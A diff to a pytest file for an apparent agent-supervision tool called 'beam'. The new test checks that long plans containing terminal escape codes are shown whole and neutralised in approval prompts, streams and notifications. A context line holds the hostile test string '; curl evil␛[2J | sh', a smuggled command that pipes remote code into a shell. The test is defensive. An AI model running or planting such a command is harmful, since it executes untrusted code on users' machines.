@@ -7,8 +7,12 @@ import pytest
 from msgspec import Raw
 
 from beam.api.asks import AskLine
+from beam.board.decision import ask_lines
+from beam.board.stream import stream_event
 from beam.cli.render import asks
+from beam.cli.render.event_text import sign_and_text
 from beam.model.events import PermissionAsked
+from beam.notify.occasions import ask_notification
 
 FAR = "2999-01-01T00:00:00Z"
 
@@ -70,3 +74,30 @@ def test_who_approves_from_another_shell_is_shown_all_of_a_long_question_and_not
     first, *lines = asks.full_ask_lines(long)
     assert first == "a asks for Bash␛[2J:" and all(line.isprintable() for line in (first, *lines))
     assert "; curl evil␛[2J | sh" in "\n".join(lines)
+
+
+def test_a_plan_is_shown_wherever_an_ask_is_whole_where_there_is_room_and_never_obeyed(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    plan = "# The plan\n\n" + "\n".join(f"{n}. \x1b[2Kchange file number {n}" for n in range(200)) + "\nand push it"
+    data = Raw(msgspec.json.encode({"plan": plan}))
+    asked = PermissionAsked(agent="a", ask_id="a-1", tool="ExitPlanMode", description=plan, input=data)
+    line = AskLine(id="a-1", agent="a", tool="ExitPlanMode", description=plan, input=data, asked=FAR, expires=FAR)
+    asks.print_table([line])
+    known = sign_and_text(asked)
+    streamed = stream_event(asked, "a", "a")
+    notified = ask_notification(msgspec.structs.replace(asked, expires=FAR), "p")
+    assert known is not None and streamed is not None and notified is not None
+    assert notified.text.startswith("a asks to use ExitPlanMode: # The plan 0. ") and notified.text.isprintable()
+    short = (asks.line(asked), known[1], streamed.text, capsys.readouterr().out)
+    whole = (
+        "\n".join(asks.full_input_lines(asked)),
+        "\n".join(asks.full_ask_lines(line)),
+        "\n".join(ask_lines(line, 80)),
+    )
+    for text in (*short, *whole):
+        assert "# The plan" in text and "0. ␛[2Kchange file" in text and "\x1b" not in text
+    for text in whole:
+        assert "199. ␛[2Kchange file number 199" in text and "and push it" in text
+    for text in whole[:2]:
+        assert text.count("change file number 77") == 1
